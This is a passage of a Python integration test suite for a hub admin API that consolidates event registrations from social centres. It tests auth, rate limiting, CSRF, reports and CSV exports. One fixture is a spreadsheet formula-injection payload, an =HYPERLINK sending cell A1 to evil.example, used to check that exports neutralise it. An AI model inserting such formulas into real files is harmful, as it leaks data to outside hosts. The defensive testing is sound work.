"""The hub admin's JSON API over HTTPS, against a real terril-hub fed by three
real terril-nodes of three centres in three agglomerations (issue 5).

The nodes write events, prototype notes and registrations with known roles
through their own APIs (one registration is for an event hosted by another
centre, which that host checks in). Once the hub holds it all, the admin API
must answer exactly what the nodes wrote: list filters, role counts per centre
and per agglomeration, attendance per event; admin writes must reach the
nodes; CSV exports (API and `terril-hub export`) must parse back; the node
list and a revocation must show the real state of the links. A second hub,
listening on 0.0.0.0, serves /metrics only with a login or its bearer token
(HubHardeningTest, security review L7), and `export -o` writes a private
file, never through a symlink (L4).

Run: TERRIL_BUILD=build python3 -m unittest -v tests/integration/test_hub_api.py
"""

import collections
import csv
import http.client
import io
import json
import os
import re
import shutil
import ssl
import stat
import subprocess
import sys
import tempfile
import time
import unittest
import urllib.parse

sys.path.insert(0, os.path.dirname(__file__))
from harness import (ADMIN_PASSWORD, HUB_BIN, Cluster, Hub, Process, event_body, registration_body,  # noqa: E402
                     wait_for)

A = ("valenciennes-beaujardin", "valenciennes-metropole")
B = ("denain-tonini", "porte-du-hainaut")
C = ("mazingarbe-brebis", "lens-lievin")
AGGLOS = ("valenciennes-metropole", "porte-du-hainaut", "lens-lievin")
ROLES = ("habitant", "benevole", "partenaire", "salarie", "administrateur", "institutionnel")
FEDER = ("L'opération « Centres sociaux connectés du bassin minier » est cofinancée par le FEDER dans le cadre "
         "du programme opérationnel FEDER 2014-2020 pour la Région Hauts-de-France.")
# A last name a spreadsheet could mangle: the separator, quotes, an accent.
TRICKY_LAST = 'Dupré; dit "Le Grand"'
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"cliquez")'
FR_DATETIME = re.compile(r"^\d{2}/\d{2}/\d{4} \d{2}:\d{2}$")


def no_verify_context():
    """The hub's certificate is self-signed: this client checks nothing (loopback tests only)."""
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx


class HubClient:
    """The admin's HTTPS client for the hub, one cookie, from a chosen loopback source address
    (the login limiter counts per address: a test that trips it uses its own)."""

    def __init__(self, port, source="127.0.0.1"):
        self.port = port
        self.source = source
        self.ctx = no_verify_context()
        self.cookie = None
        self.last_headers = {}

    def request(self, method, path, body=None, headers=None, raw=None, cookie=None):
        """-> (status, headers dict (lower-case names), body bytes)."""
        conn = http.client.HTTPSConnection("127.0.0.1", self.port, context=self.ctx, timeout=30,
                                           source_address=(self.source, 0))
        try:
            data = raw if raw is not None else (json.dumps(body).encode() if body is not None else None)
            h = {"Accept": "application/json"}
            if data is not None:
                h["Content-Type"] = "application/json"
            c = cookie if cookie is not None else self.cookie
            if c:
                h["Cookie"] = "terril_session=" + c
            h.update(headers or {})
            conn.request(method, path, body=data, headers=h)
            r = conn.getresponse()
            payload = r.read()
            hdrs = {}
            for k, v in r.getheaders():
                k = k.lower()
                hdrs[k] = hdrs[k] + "\n" + v if k in hdrs else v
            self.last_headers = hdrs
            return r.status, hdrs, payload
        finally:
            conn.close()

    def call(self, method, path, body=None, headers=None, raw=None, cookie=None):
        """-> (status, parsed JSON or text)."""
        s, _, payload = self.request(method, path, body, headers, raw, cookie)
        try:
            return s, json.loads(payload) if payload else None
        except ValueError:
            return s, payload.decode(errors="replace")

    def login(self, password=ADMIN_PASSWORD):
        s, h, payload = self.request("POST", "/api/v1/login", {"password": password}, cookie="")
        if s == 200:
            m = re.search(r"terril_session=([0-9a-f]+)", h.get("set-cookie", ""))
            assert m, h
            self.cookie = m.group(1)
        return s, h, payload

    def get(self, path, **params):
        q = urllib.parse.urlencode({k: v for k, v in params.items() if v is not None})
        s, body = self.call("GET", path + ("?" + q if q else ""))
        assert s == 200, f"GET {path}?{q}: {s} {body}"
        return body

    def list_all(self, path, **params):
        """Every item of a list, following the `next` cursor with small pages (paging is part of the API)."""
        items, after = [], None
        for _ in range(1000):
            page = self.get(path, limit=params.pop("limit", 3), after=after, **params)
            items.extend(page["items"])
            after = page["next"]
            if not after:
                return items
        raise AssertionError("paging never ends")


def without(d, *keys):
    return {k: v for k, v in d.items() if k not in keys}


def hub_export_cli(hub, *args):
    """`terril-hub export ...` -> its standard output as bytes (CRLF kept)."""
    p = subprocess.run([HUB_BIN, "export", *args, "--data-dir", hub.dir, "--config", "/dev/null"],
                       capture_output=True, timeout=60)
    assert p.returncode == 0, p.stderr.decode(errors="replace")
    return p.stdout


def parse_export(raw):
    """A CSV export -> (header, data rows, last row). Checks the BOM and that utf-8-sig decodes it."""
    assert raw.startswith(b"\xef\xbb\xbf"), raw[:20]
    text = raw.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert len(rows) >= 2, rows
    return rows[0], rows[1:-1], rows[-1]


class HubApiTest(unittest.TestCase):
    """One cluster for the whole class; tests run in name order and only the last one cuts a node."""

    @classmethod
    def setUpClass(cls):
        t0 = time.time()
        cls.cl = Cluster()
        try:
            cls._build()
        except BaseException:
            cls.cl.__exit__(*sys.exc_info())
            raise
        print(f"\ncluster fed and synced in {time.time() - t0:.1f}s", file=sys.stderr)

    @classmethod
    def tearDownClass(cls):
        cls.cl.__exit__(None, None, None)

    @classmethod
    def _build(cls):
        cl = cls.cl
        cl.hub.start()
        cls.a = cl.add_node("node-a", A[0])
        cls.b = cl.add_node("node-b", B[0])
        cls.c = cl.add_node("node-c", C[0])
        cls.nodes = {A[0]: cls.a, B[0]: cls.b, C[0]: cls.c}
        cls.agglo = {A[0]: A[1], B[0]: B[1], C[0]: C[1]}
        cls.hub = HubClient(cl.hub.port)
        s, _, body = cls.hub.login()
        assert s == 200, body

        # Each centre hosts one event; notes with different statuses.
        cls.events = {
            A[0]: cls.a.create("events", event_body("Atelier tablettes Beaujardin", capacity=12)),
            B[0]: cls.b.create("events", event_body("Atelier smartphone Denain", capacity=8, days=12)),
            C[0]: cls.c.create("events", without(event_body("Réunion des bénévoles Mazingarbe", kind="reunion",
                                                            days=14), "capacity")),
        }
        cls.notes = [
            cls.a.create("prototype-notes", {"title": "Borne d'accueil", "status": "en-test", "tags": ["tablette"]}),
            cls.b.create("prototype-notes", {"title": "Carte des ateliers", "status": "deploye"}),
            cls.c.create("prototype-notes", {"title": "Radio de quartier", "status": "idee"}),
        ]
        # Wait for every event at A, so it can register someone for B's event.
        wait_for(lambda: all(len(n.api.call("GET", "/api/v1/events")[1]["items"]) == 3 for n in cls.nodes.values()),
                 what="the three events on every node")

        # (node, event centre, first, last, role, attended by host?, extra fields)
        plan = [
            (A[0], A[0], "Camille", "Wattrelos", "habitant", True, {}),
            (A[0], A[0], "Inès", "Lefort", "habitant", False, {}),
            (A[0], A[0], "Marcel", "Béthune", "benevole", True, {"email": "marcel@example.org"}),
            (A[0], A[0], "Zoé", TRICKY_LAST, "salarie", False, {"notes": FORMULA}),
            (A[0], B[0], "Yasmine", "Hébergée", "partenaire", True, {}),  # hosted by B, checked in by B
            (B[0], B[0], "Jean", "Martin", "habitant", False, {}),
            (B[0], B[0], "Odile", "Préfecture", "institutionnel", True, {}),
            (B[0], B[0], "Paul", "Bénévole", "benevole", False, {}),
            (C[0], C[0], "Rémi", "Charbonnier", "administrateur", True, {}),
            (C[0], C[0], "Léa", "Terril", "benevole", False, {}),
            (C[0], C[0], "Nour", "Galibot", "habitant", False, {}),
        ]
        cls.regs = []
        for owner, host, first, last, role, attended, extra in plan:
            body = registration_body(cls.events[host]["id"], first=first, last=last, role=role)
            body.update(extra)
            r = cls.nodes[owner].create("registrations", body)
            cls.regs.append({"id": r["id"], "centre_id": owner, "event_id": cls.events[host]["id"], "host": host,
                             "first_name": first, "last_name": last, "role": role, "attended": attended,
                             "agglomeration": cls.agglo[owner], **extra})
        # Check-in by the host centre (the one exception to ownership), once the host holds the registration.
        for r in cls.regs:
            if not r["attended"]:
                continue
            host = cls.nodes[r["host"]]
            wait_for(lambda: host.api.call("GET", "/api/v1/registrations/" + r["id"])[0] == 200,
                     what=f"registration {r['id']} at its host")
            s, body = host.api.call("PATCH", "/api/v1/registrations/" + r["id"], {"attended": True})
            assert s == 200, body

        # Synced: the hub holds every registration with its attendance, and every node has sent everything.
        def synced():
            items = {x["id"]: x for x in cls.hub.list_all("/api/v1/registrations", limit=100)}
            return (len(items) == len(cls.regs)
                    and all(items[r["id"]].get("attended", False) == r["attended"] for r in cls.regs)
                    and all(n.status()["pending"] == 0 and n.status()["connected"] for n in cls.nodes.values()))
        wait_for(synced, timeout=60, interval=0.2, what="hub holds everything the nodes wrote")

    # --- helpers ---------------------------------------------------------

    def expect_ids(self, pred):
        return sorted(r["id"] for r in self.regs if pred(r))

    def hub_ids(self, **params):
        return sorted(x["id"] for x in self.hub.list_all("/api/v1/registrations", **params))

    # --- auth ------------------------------------------------------------

    def test_01_auth_required_everywhere_but_healthz_and_metrics(self):
        s, h, body = self.hub.request("GET", "/healthz", cookie="")
        self.assertEqual((s, body.strip()), (200, b"ok"))
        s, h, body = self.hub.request("GET", "/metrics", cookie="")
        self.assertEqual(s, 200)
        self.assertIn("text/plain", h["content-type"])
        metrics = body.decode()
        self.assertRegex(metrics, r"(?m)^terril_hub_connected_nodes 3$")
        self.assertIn('terril_hub_node_last_seen_timestamp_seconds{node="node-a"', metrics)
        for r in self.regs:  # no personal data in the metrics
            self.assertNotIn(r["last_name"], metrics)

        rid, eid = self.regs[0]["id"], self.events[A[0]]["id"]
        routes = [
            ("GET", "/api/v1/status"), ("GET", "/api/v1/registrations"), ("GET", "/api/v1/registrations/" + rid),
            ("GET", "/api/v1/events"), ("GET", "/api/v1/events/" + eid), ("GET", "/api/v1/prototype-notes"),
            ("GET", "/api/v1/centres"), ("GET", "/api/v1/nodes"), ("GET", "/api/v1/reports/roles"),
            ("GET", "/api/v1/reports/attendance"), ("GET", "/api/v1/reports/prototypes"),
            ("GET", "/api/v1/export?entity=registrations&format=csv"), ("GET", "/api/v1/admin-log"),
            ("GET", "/api/v1/nowhere"),
            ("POST", "/api/v1/events"), ("PATCH", "/api/v1/registrations/" + rid), ("PUT", "/api/v1/events/" + eid),
            ("DELETE", "/api/v1/events/" + eid), ("POST", "/api/v1/registrations/" + rid + "/erase"),
            ("POST", "/api/v1/nodes"), ("POST", "/api/v1/nodes/node-a/revoke"),
            ("POST", "/api/v1/nodes/node-a/replace"), ("POST", "/api/v1/centres"),
        ]
        # A staff session cookie of a node opens nothing at the hub, nor does a made-up one.
        node_cookie = next(c.value for c in self.a.api.jar if c.name == "terril_session")
        for cookie in ("", "0" * 64, node_cookie):
            for method, path in routes:
                body = {"confirm": True} if method != "GET" else None
                s, h, payload = self.hub.request(method, path, body=body, cookie=cookie)
                self.assertEqual(s, 401, f"{method} {path} with cookie {cookie[:8]!r}: {s} {payload[:200]!r}")
                self.assertIn("application/json", h.get("content-type", ""), path)
                self.assertEqual(json.loads(payload)["code"], "unauthenticated", path)
        # Nothing was written by the refused requests.
        self.assertEqual(self.hub.get("/api/v1/events/" + eid)["deleted"], False)
        self.assertEqual(self.hub.get("/api/v1/nodes")["items"][0]["state"], "active")

    def test_02_session_cookie_is_httponly_strict_and_secure(self):
        other = HubClient(self.cl.hub.port)
        s, h, body = other.login()
        self.assertEqual(s, 200, body)
        cookie = h["set-cookie"]
        for attr in ("HttpOnly", "SameSite=Strict", "Secure", "Path=/"):
            self.assertIn(attr, cookie)
        self.assertEqual(other.call("GET", "/api/v1/status")[0], 200)
        self.assertEqual(other.call("POST", "/api/v1/logout")[0], 200)
        self.assertEqual(other.call("GET", "/api/v1/status")[0], 401, "a logged-out session opens nothing")
        self.assertEqual(self.hub.call("GET", "/api/v1/status")[0], 200, "other sessions live on")

    def test_03_wrong_password_401_then_rate_limited_429_after_5_failures(self):
        attacker = HubClient(self.cl.hub.port, source="127.0.0.2")
        for i in range(5):
            s, h, body = attacker.login("pas-le-bon-mot-de-passe")
            self.assertEqual(s, 401, f"failure {i + 1}: {body}")
            err = json.loads(body)
            self.assertEqual((err["code"], err["field"]), ("bad_password", "password"))
            self.assertEqual(err["message"], "Mot de passe incorrect.")
        # The sixth attempt is refused before the password is even checked, even the right one.
        for pw in ("encore-faux", ADMIN_PASSWORD):
            s, h, body = attacker.login(pw)
            self.assertEqual(s, 429, body)
            self.assertEqual(json.loads(body)["code"], "too_many_attempts")
            self.assertGreaterEqual(int(h["retry-after"]), 1)
            self.assertIsNone(attacker.cookie)
        # Counted per address: the admin at another address still logs in.
        s, _, body = HubClient(self.cl.hub.port, source="127.0.0.3").login()
        self.assertEqual(s, 200, body)
        # A wrong password or body never opens anything.
        s, _, body = HubClient(self.cl.hub.port, source="127.0.0.4").login("")
        self.assertEqual(s, 401, body)

    def test_04_csrf_foreign_origin_is_refused(self):
        before = len(self.hub.list_all("/api/v1/events", limit=100))
        body = dict(event_body("Événement piégé"), centre_id=A[0])
        for origin in ("https://evil.example", "https://127.0.0.1:1", "null"):
            s, resp = self.hub.call("POST", "/api/v1/events", body, headers={"Origin": origin})
            self.assertEqual(s, 403, f"{origin}: {resp}")
            self.assertEqual(resp["code"], "csrf")
        s, resp = self.hub.call("POST", "/api/v1/nodes/node-a/revoke", headers={"Origin": "https://evil.example"})
        self.assertEqual(s, 403, resp)
        s, resp = self.hub.call("POST", "/api/v1/login", {"password": ADMIN_PASSWORD},
                                headers={"Origin": "https://evil.example"})
        self.assertEqual(s, 403, resp)
        # A form-encoded body (what a cross-site form can send) is refused too.
        s, resp = self.hub.call("POST", "/api/v1/events", raw=b"title=x",
                                headers={"Content-Type": "application/x-www-form-urlencoded"})
        self.assertEqual(s, 415, resp)
        self.assertEqual(len(self.hub.list_all("/api/v1/events", limit=100)), before, "nothing was created")
        self.assertEqual(self.hub.get("/api/v1/nodes")["items"][0]["state"], "active")
        # The dashboard's own origin passes.
        s, resp = self.hub.call("PATCH", "/api/v1/events/" + self.events[A[0]]["id"], {"place": "Salle informatique"},
                                headers={"Origin": f"https://127.0.0.1:{self.cl.hub.port}"})
        self.assertEqual(s, 200, resp)

    # --- consolidated data -------------------------------------------------

    def test_10_registrations_list_filters_equal_what_the_nodes_wrote(self):
        self.assertEqual(self.hub_ids(), self.expect_ids(lambda r: True))
        # The records themselves: what the nodes wrote, field by field.
        by_id = {x["id"]: x for x in self.hub.list_all("/api/v1/registrations", limit=100)}
        for r in self.regs:
            got = by_id[r["id"]]
            for k in ("centre_id", "event_id", "first_name", "last_name", "role", "attended"):
                self.assertEqual(got.get(k, False if k == "attended" else None), r[k], k)
            if "notes" in r:
                self.assertEqual(got["notes"], r["notes"])
        for centre in self.nodes:
            self.assertEqual(self.hub_ids(centre_id=centre), self.expect_ids(lambda r: r["centre_id"] == centre),
                             centre)
        for agglo in AGGLOS:
            self.assertEqual(self.hub_ids(agglomeration=agglo),
                             self.expect_ids(lambda r: r["agglomeration"] == agglo), agglo)
        for role in ROLES:
            self.assertEqual(self.hub_ids(role=role), self.expect_ids(lambda r: r["role"] == role), role)
        for flag in (True, False):
            self.assertEqual(self.hub_ids(attended=str(flag).lower()),
                             self.expect_ids(lambda r: r["attended"] == flag), flag)
        for host, ev in self.events.items():
            got = self.hub_ids(event_id=ev["id"])
            self.assertEqual(got, self.expect_ids(lambda r: r["event_id"] == ev["id"]), host)
        # B's event holds A's registration too (hosted elsewhere).
        self.assertEqual(len(self.hub_ids(event_id=self.events[B[0]]["id"])), 4)
        # Search: case-insensitive substring of a name, the email; filters combine.
        self.assertEqual(self.hub_ids(q="wattrelos"), self.expect_ids(lambda r: r["last_name"] == "Wattrelos"))
        self.assertEqual(self.hub_ids(q="marcel@example"), self.expect_ids(lambda r: r["first_name"] == "Marcel"))
        self.assertEqual(self.hub_ids(q='dit "Le'), self.expect_ids(lambda r: r["last_name"] == TRICKY_LAST))
        self.assertEqual(self.hub_ids(q="100%"), [], "LIKE wildcards are literal")
        self.assertEqual(self.hub_ids(centre_id=A[0], role="habitant", attended="true"),
                         self.expect_ids(lambda r: r["centre_id"] == A[0] and r["role"] == "habitant" and r["attended"]))
        self.assertEqual(self.hub_ids(agglomeration=B[1], event_id=self.events[B[0]]["id"]),
                         self.expect_ids(lambda r: r["centre_id"] == B[0]))
        # Bad filters are explained, not ignored.
        for bad in ({"attended": "peut-etre"}, {"colour": "red"}, {"from": "hier"}, {"limit": "0"}):
            s, body = self.hub.call("GET", "/api/v1/registrations?" + urllib.parse.urlencode(bad))
            self.assertEqual(s, 400, f"{bad}: {body}")
            self.assertTrue(body["message"], bad)

    def test_11_events_and_notes_consolidated(self):
        events = {e["id"]: e for e in self.hub.list_all("/api/v1/events", limit=100)}
        for host, ev in self.events.items():
            got = events[ev["id"]]
            self.assertEqual((got["centre_id"], got["title"]), (host, ev["title"]))
            regs = [r for r in self.regs if r["event_id"] == ev["id"]]
            self.assertEqual(got["registered"], len(regs))
            self.assertEqual(got["attended"], sum(r["attended"] for r in regs))
            if ev.get("capacity") is not None:
                self.assertEqual(got["places_left"], ev["capacity"] - len(regs))
        notes = {n["id"]: n for n in self.hub.list_all("/api/v1/prototype-notes")}
        for n in self.notes:
            self.assertEqual((notes[n["id"]]["status"], notes[n["id"]]["centre_id"]), (n["status"], n["centre_id"]))
        self.assertEqual([n["id"] for n in self.hub.list_all("/api/v1/prototype-notes", status="deploye")],
                         [self.notes[1]["id"]])

    def test_12_report_roles_per_centre_and_per_agglomeration(self):
        rep = self.hub.get("/api/v1/reports/roles")
        self.assertEqual(rep["roles"], list(ROLES))
        per_centre = collections.defaultdict(collections.Counter)
        per_agglo = collections.defaultdict(collections.Counter)
        for r in self.regs:
            per_centre[r["centre_id"]][r["role"]] += 1
            per_agglo[r["agglomeration"]][r["role"]] += 1
        full = lambda counter: {role: counter.get(role, 0) for role in ROLES}  # noqa: E731
        centres = {c["centre_id"]: c for c in rep["centres"]}
        self.assertEqual(len(centres), 19, "every centre is listed, with zeros where nothing was written")
        for cid, c in centres.items():
            self.assertEqual(c["counts"], full(per_centre[cid]), cid)
            self.assertEqual(c["total"], sum(per_centre[cid].values()), cid)
        self.assertEqual(centres[A[0]]["agglomeration"], A[1])
        self.assertEqual(centres[A[0]]["name"], "Maison de quartier Beaujardin")
        self.assertEqual([a["id"] for a in rep["agglomerations"]], list(AGGLOS))
        self.assertEqual([a["name"] for a in rep["agglomerations"]],
                         ["Valenciennes Métropole", "Porte du Hainaut", "Lens-Liévin"])
        for a in rep["agglomerations"]:
            self.assertEqual(a["counts"], full(per_agglo[a["id"]]), a["id"])
            self.assertEqual(a["total"], sum(per_agglo[a["id"]].values()), a["id"])
        self.assertEqual(rep["total"]["counts"], full(collections.Counter(r["role"] for r in self.regs)))
        self.assertEqual(rep["total"]["total"], len(self.regs))
        # By event: only that event's registrations (A's hosted one counts for A, its owner).
        ev_b = self.events[B[0]]["id"]
        rep_b = self.hub.get("/api/v1/reports/roles", event_id=ev_b)
        self.assertEqual(rep_b["total"]["total"], 4)
        self.assertEqual({c["centre_id"]: c["total"] for c in rep_b["centres"] if c["total"]}, {A[0]: 1, B[0]: 3})
        self.assertEqual({a["id"]: a["total"] for a in rep_b["agglomerations"]},
                         {A[1]: 1, B[1]: 3, C[1]: 0})
        # A date range that excludes everything.
        self.assertEqual(self.hub.get("/api/v1/reports/roles", to="2001-01-01")["total"]["total"], 0)

    def test_13_report_attendance_per_event(self):
        rep = self.hub.get("/api/v1/reports/attendance")
        items = {i["event_id"]: i for i in rep["items"]}
        for host, ev in self.events.items():
            regs = [r for r in self.regs if r["event_id"] == ev["id"]]
            got = items[ev["id"]]
            self.assertEqual((got["registered"], got["attended"], got["capacity"], got["centre_id"]),
                             (len(regs), sum(r["attended"] for r in regs), ev.get("capacity"), host), host)
        self.assertEqual(items[self.events[B[0]]["id"]]["centre_name"], "Maison de quartier Solange Tonini")
        self.assertEqual(rep["total"]["registered"], sum(i["registered"] for i in rep["items"]))
        self.assertEqual(rep["total"]["attended"], sum(i["attended"] for i in rep["items"]))
        self.assertGreaterEqual(rep["total"]["registered"], len(self.regs))
        only_c = self.hub.get("/api/v1/reports/attendance", centre_id=C[0])
        self.assertIn(self.events[C[0]]["id"], [i["event_id"] for i in only_c["items"]])
        self.assertTrue(all(i["centre_id"] == C[0] for i in only_c["items"]))
        protos = self.hub.get("/api/v1/reports/prototypes")
        self.assertEqual(protos["total"]["counts"]["en-test"], 1)
        self.assertEqual({c["centre_id"]: c["total"] for c in protos["centres"] if c["total"]},
                         {A[0]: 1, B[0]: 1, C[0]: 1})

    # --- admin writes reach the nodes --------------------------------------

    def test_20_admin_temps_fort_reaches_every_node(self):
        body = dict(event_body("Temps fort du numérique 2026", kind="temps-fort", days=30, capacity=300),
                    centre_id=C[0], description="La grande journée des centres connectés.")
        s, ev = self.hub.call("POST", "/api/v1/events", body)
        self.assertEqual(s, 201, ev)
        self.assertEqual((ev["centre_id"], ev["kind"], ev["registered"], ev["places_left"]), (C[0], "temps-fort", 0, 300))
        for n in self.nodes.values():
            wait_for(lambda: n.api.call("GET", "/api/v1/events/" + ev["id"])[0] == 200, timeout=15,
                     what=f"the temps fort at {n.node_id}")
            got = n.api.call("GET", "/api/v1/events/" + ev["id"])[1]
            self.assertEqual((got["title"], got["kind"], got["centre_id"], got["capacity"]),
                             (body["title"], "temps-fort", C[0], 300))
        # A centre can now register someone for it, and the hub counts it.
        r = self.a.create("registrations", registration_body(ev["id"], first="Hugo", last="Temps-Fort", role="habitant"))
        wait_for(lambda: self.hub.call("GET", "/api/v1/events/" + ev["id"])[1]["registered"] == 1, timeout=15,
                 what="the registration counted at the hub")
        self.regs.append({"id": r["id"], "centre_id": A[0], "event_id": ev["id"], "host": C[0], "first_name": "Hugo",
                          "last_name": "Temps-Fort", "role": "habitant", "attended": False, "agglomeration": A[1]})
        wait_for(lambda: self.c.api.call("GET", "/api/v1/registrations/" + r["id"])[0] == 200, timeout=15,
                 what="the registration at the host C")
        log = self.hub.get("/api/v1/admin-log", limit=20)["items"]
        self.assertTrue(any(e["action"] == "record.create" and ev["id"] in e["detail"] for e in log), log[:3])

    def test_21_admin_correction_reaches_the_owner_and_the_host_only(self):
        reg = next(r for r in self.regs if r["centre_id"] == A[0] and r["host"] == B[0])
        s, got = self.hub.call("PATCH", "/api/v1/registrations/" + reg["id"],
                               {"last_name": "Hébergée-Corrigée", "phone": "03 21 00 00 00"})
        self.assertEqual(s, 200, got)
        self.assertEqual(got["last_name"], "Hébergée-Corrigée")
        for n in (self.a, self.b):
            wait_for(lambda: n.api.call("GET", "/api/v1/registrations/" + reg["id"])[1].get("last_name")
                     == "Hébergée-Corrigée", timeout=15, what=f"the correction at {n.node_id}")
            self.assertEqual(n.api.call("GET", "/api/v1/registrations/" + reg["id"])[1]["phone"], "03 21 00 00 00")
        self.assertEqual(self.c.api.call("GET", "/api/v1/registrations/" + reg["id"])[0], 404,
                         "never at a centre that neither owns nor hosts it")
        reg["last_name"] = "Hébergée-Corrigée"
        # The audit log names the fields, never their values.
        log = self.hub.get("/api/v1/admin-log", limit=20)["items"]
        entry = next(e for e in log if e["action"] == "record.update" and reg["id"] in e["detail"])
        self.assertIn("last_name", entry["detail"])
        self.assertNotIn("Corrigée", json.dumps(log, ensure_ascii=False))
        self.assertNotIn("03 21", json.dumps(log, ensure_ascii=False))
        # A correction the owner node had not made is not refused there: no rejection anywhere.
        self.assertEqual(self.a.status()["rejections_total"], 0)
        # Bad input is refused in French without writing.
        s, err = self.hub.call("PATCH", "/api/v1/registrations/" + reg["id"], {"role": "roi"})
        self.assertEqual(s, 400, err)
        s, err = self.hub.call("PATCH", "/api/v1/registrations/" + reg["id"], {"centre_id": C[0]})
        self.assertEqual(s, 400, err)

    # --- exports -----------------------------------------------------------

    def check_registrations_csv(self, raw, centre):
        header, data, last = parse_export(raw)
        self.assertEqual(header[:2], ["id", "centre_id"])
        for col in ("event_id", "first_name", "last_name", "phone", "email", "role", "consent_at", "attended",
                    "notes", "created_at", "updated_at"):
            self.assertIn(col, header)
        self.assertNotIn("deleted", header)
        self.assertEqual(last, [FEDER], "the export ends with the FEDER sentence")
        rows = [dict(zip(header, row)) for row in data]
        self.assertTrue(all(len(row) == len(header) for row in data), "every row has every column")
        expected = {r["id"]: r for r in self.regs if r["centre_id"] == centre}
        self.assertEqual(sorted(row["id"] for row in rows), sorted(expected))
        for row in rows:
            r = expected[row["id"]]
            self.assertEqual((row["centre_id"], row["first_name"], row["last_name"], row["role"], row["event_id"]),
                             (centre, r["first_name"], r["last_name"], r["role"], r["event_id"]))
            self.assertEqual(row["attended"], "oui" if r["attended"] else "non")
            self.assertRegex(row["created_at"], FR_DATETIME)
            self.assertRegex(row["consent_at"], FR_DATETIME)
        return rows

    def test_30_csv_export_api_and_cli_parse_back(self):
        s, h, raw = self.hub.request("GET", "/api/v1/export?entity=registrations&format=csv&centre_id=" + A[0])
        self.assertEqual(s, 200, raw[:300])
        self.assertIn("text/csv", h["content-type"])
        self.assertIn("charset=utf-8", h["content-type"])
        self.assertRegex(h["content-disposition"], r'^attachment; filename="terril-registrations-\d{4}-\d{2}-\d{2}\.csv"$')
        rows = self.check_registrations_csv(raw, A[0])
        tricky = next(row for row in rows if row["first_name"] == "Zoé")
        self.assertEqual(tricky["last_name"], TRICKY_LAST, "';' and '\"' round-trip through the quoting")
        self.assertEqual(tricky["notes"], "'" + FORMULA, "a value starting with '=' is neutralised")
        self.assertIn(b'"Dupr\xc3\xa9; dit ""Le Grand"""', raw, "the name is quoted, its quotes doubled")
        self.assertEqual(raw.count(b"\r\n"), len(rows) + 2, "CRLF line ends: header, rows, FEDER")
        marcel = next(row for row in rows if row["first_name"] == "Marcel")
        self.assertEqual(marcel["email"], "marcel@example.org")

        cli_raw = hub_export_cli(self.cl.hub, "--entity", "registrations", "--format", "csv", "--centre", A[0])
        self.assertEqual(cli_raw.count(b"\r\n"), len(rows) + 2)
        cli_rows = self.check_registrations_csv(cli_raw, A[0])
        key = lambda row: row["id"]  # noqa: E731
        self.assertEqual(sorted(cli_rows, key=key), sorted(rows, key=key), "the CLI and the API export the same")
        # Other centres' people are not in A's export.
        for r in self.regs:
            if r["centre_id"] != A[0]:
                self.assertNotIn(r["last_name"].encode(), raw)
        # Filters on the API export: role + attended.
        s, _, raw2 = self.hub.request("GET", "/api/v1/export?" + urllib.parse.urlencode(
            {"entity": "registrations", "format": "csv", "role": "habitant", "attended": "true"}))
        self.assertEqual(s, 200)
        _, data2, _ = parse_export(raw2)
        self.assertEqual(sorted(row[0] for row in data2),
                         self.expect_ids(lambda r: r["role"] == "habitant" and r["attended"]))
        # JSON export and the other entities.
        s, _, raw3 = self.hub.request("GET", "/api/v1/export?entity=registrations&format=json&centre_id=" + B[0])
        self.assertEqual(s, 200)
        j = json.loads(raw3)
        self.assertEqual(j["feder"], FEDER)
        self.assertEqual(sorted(x["id"] for x in j["items"]), self.expect_ids(lambda r: r["centre_id"] == B[0]))
        for entity, n in (("events", 4), ("prototype-notes", 3)):
            s, _, raw4 = self.hub.request("GET", f"/api/v1/export?entity={entity}&format=csv")
            self.assertEqual(s, 200, entity)
            _, data4, last4 = parse_export(raw4)
            self.assertGreaterEqual(len(data4), n, entity)
            self.assertEqual(last4, [FEDER])
        s, err = self.hub.call("GET", "/api/v1/export?entity=registrations&format=xlsx")
        self.assertEqual(s, 400, err)

    def test_31_exports_are_logged_without_content(self):
        s, _, _ = self.hub.request("GET", "/api/v1/export?" + urllib.parse.urlencode(
            {"entity": "registrations", "format": "csv", "centre_id": B[0], "q": "Préfecture"}))
        self.assertEqual(s, 200)
        hub_export_cli(self.cl.hub, "--entity", "registrations", "--format", "csv", "--centre", C[0])
        log = self.hub.get("/api/v1/admin-log", limit=200)["items"]
        exports = [e for e in log if e["action"] == "export"]
        api_entry = next(e for e in exports if f"centre_id={B[0]}" in e["detail"])
        self.assertTrue(api_entry["who"].startswith("admin"), api_entry)
        self.assertIn("search=(set)", api_entry["detail"])
        self.assertRegex(api_entry["at"] or "", r"^\d{4}-\d{2}-\d{2}T")
        cli_entry = next(e for e in exports if f"centre_id={C[0]}" in e["detail"])
        self.assertEqual(cli_entry["who"], "cli")
        self.assertTrue(any(f"centre_id={A[0]}" in e["detail"] for e in exports), "the earlier export is logged")
        text = json.dumps(log, ensure_ascii=False)
        for r in self.regs:
            for k in ("first_name", "last_name"):
                self.assertNotIn(r[k], text, "no personal data in the admin log")
        self.assertNotIn("Préfecture", text, "the search text is not logged")
        self.assertNotIn("06 12 34 56 78", text)

    # --- nodes ---------------------------------------------------------------

    def test_40_node_list_cli_and_api(self):
        out = self.cl.hub.cli("node", "list", "--json")
        nodes = {n["node_id"]: n for n in json.loads(out.stdout)}
        self.assertEqual(set(nodes), {"node-a", "node-b", "node-c"})
        for nid, n in nodes.items():
            node = next(x for x in self.nodes.values() if x.node_id == nid)
            st = node.status()
            self.assertEqual((n["centre_id"], n["state"]), (node.centre, "active"))
            self.assertEqual(n["node_cursor"], st["own_seq"], f"{nid}: the hub holds all of the node's changes")
            self.assertRegex(n["last_seen"] or "", r"^\d{4}-\d{2}-\d{2}T")
            self.assertTrue(n["software_version"], n)
        api_nodes = {n["node_id"]: n for n in self.hub.get("/api/v1/nodes")["items"]}
        for nid, n in api_nodes.items():
            self.assertTrue(n["connected"], nid)
            self.assertEqual(n["changes_received"], nodes[nid]["node_cursor"], nid)
            self.assertEqual(n["rejected"], 0, nid)
        self.assertEqual(api_nodes["node-b"]["agglomeration"], B[1])
        self.assertEqual(api_nodes["node-a"]["centre_name"], "Maison de quartier Beaujardin")
        # Add a node from the API: a one-time code and the technician's command.
        s, code = self.hub.call("POST", "/api/v1/nodes", {"node_id": "saint-saulve-1", "centre_id": "saint-saulve"})
        self.assertEqual(s, 201, code)
        self.assertIn(code["code"], code["command"])
        self.assertRegex(code["command"],
